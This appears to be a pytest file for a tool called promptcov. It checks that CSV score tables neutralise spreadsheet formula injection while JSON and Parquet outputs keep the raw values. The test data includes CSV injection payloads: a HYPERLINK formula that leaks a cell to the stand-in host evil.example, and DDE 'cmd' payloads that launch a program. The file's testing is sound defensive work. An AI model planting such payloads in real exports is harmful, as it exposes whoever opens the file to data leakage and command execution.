"""Score tables written with ``--out``: CSV cells cannot run as spreadsheet formulas (OWASP)."""

from __future__ import annotations

import csv
import json

import pyarrow.parquet as pq
import pytest

from promptcov.cli import main
from promptcov.config import Config
from promptcov.errors import InputError
from promptcov.reports.tables import FORMULA_PREFIXES, csv_safe, write_table

HOSTILE_IDS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
COLS = ("account_id", "n_requests", "score", "flagged", "group_id", "reasons")


def _rows():
    rows = [
        dict(
            account_id=a,
            n_requests=i + 1,
            score=-0.5 if i == 0 else 0.25,
            flagged=True,
            group_id=a,
            reasons=a,
        )
        for i, a in enumerate(HOSTILE_IDS)
    ]
    rows.append(
        dict(account_id="acct-1", n_requests=3, score=0.1, flagged=False, group_id=None, reasons="ok")
    )
    return rows


def _read_csv(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_csv_safe_quotes_every_formula_prefix(prefix):
    assert csv_safe(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("value", ["acct-1", "a=b", "1-2", "user@example", "", None, "'already"])
def test_csv_safe_leaves_ordinary_cells(value):
    assert csv_safe(value) == value


def test_csv_cells_are_neutralised(tmp_path):
    out = write_table(_rows(), COLS, tmp_path / "acc.csv")
    rows = _read_csv(out)
    for r, hostile in zip(rows, HOSTILE_IDS, strict=False):
        for col in ("account_id", "group_id", "reasons"):
            assert r[col] == "'" + hostile, (col, r[col])
            assert not r[col].startswith(FORMULA_PREFIXES)
    assert rows[0]["score"] == "-0.5"  # a negative number in a numeric column stays a number
    assert rows[-1]["account_id"] == "acct-1" and rows[-1]["group_id"] == ""


def test_json_and_parquet_keep_raw_values(tmp_path):
    js = json.loads(write_table(_rows(), COLS, tmp_path / "acc.json").read_text(encoding="utf-8"))
    assert [r["account_id"] for r in js[:-1]] == HOSTILE_IDS
    pt = pq.read_table(write_table(_rows(), COLS, tmp_path / "acc.parquet")).to_pylist()
    assert [r["account_id"] for r in pt[:-1]] == HOSTILE_IDS
    assert pt[0]["score"] == -0.5
    with pytest.raises(InputError, match="suffix"):
        write_table(_rows(), COLS, tmp_path / "acc.xlsx")


def _hostile_log(path, n_days=6):
    """Sweep-like traffic from accounts whose ids are spreadsheet formulas, plus their organic neighbours."""
    lines = []
    for d in range(n_days):
        for i, acc in enumerate(HOSTILE_IDS):
            for k in range(12):
                lines.append(
                    {
                        "account_id": acc,
                        "timestamp": f"2026-11-{16 + d:02d}T{(k * 2) % 24:02d}:{i:02d}:00Z",
                        "prompt": f"Score this answer {d}-{i}-{k} on a 1-10 scale using the rubric",
                        "payment_id": "pm_formula",
                    }
                )
    path.write_text("\n".join(json.dumps(x) for x in lines) + "\n", encoding="utf-8")
    return path


def test_cli_score_out_csv_neutralises_formulas(tmp_path):
    from promptcov.index.embed import embed_pending
    from promptcov.index.embedders import HashingEmbedder
    from promptcov.index.ingest import ingest_files
    from promptcov.index.store import Store
    from promptcov.pipeline import run_map
    from promptcov.simulate import SimConfig, simulate

    sim = simulate(SimConfig(scale=0.03, seed=5, volume=0.3), tmp_path / "sim")
    emb = HashingEmbedder(dim=64)
    store = Store(tmp_path / "store")
    ingest_files(store, [*sim.log_paths, _hostile_log(tmp_path / "hostile.jsonl")])
    embed_pending(store, emb)
    run_map(store, Config().override("map", sample_size=300, projection_points=100), embedder=emb)
    store.close()
    out = tmp_path / "x.csv"
    assert main(["score", "--store", str(tmp_path / "store"), "--out", str(out), "-q"]) == 0
    rows = _read_csv(out)
    ids = {r["account_id"] for r in rows}
    assert {"'" + h for h in HOSTILE_IDS} <= ids
    for path in (out, tmp_path / "x_groups.csv"):
        for r in _read_csv(path):
            for col, value in r.items():
                assert not value.startswith(FORMULA_PREFIXES), (path.name, col, value)
    assert main(["score", "--store", str(tmp_path / "store"), "--out", str(tmp_path / "x.json"), "-q"]) == 0
    raw = {r["account_id"] for r in json.loads((tmp_path / "x.json").read_text(encoding="utf-8"))}
    assert set(HOSTILE_IDS) <= raw
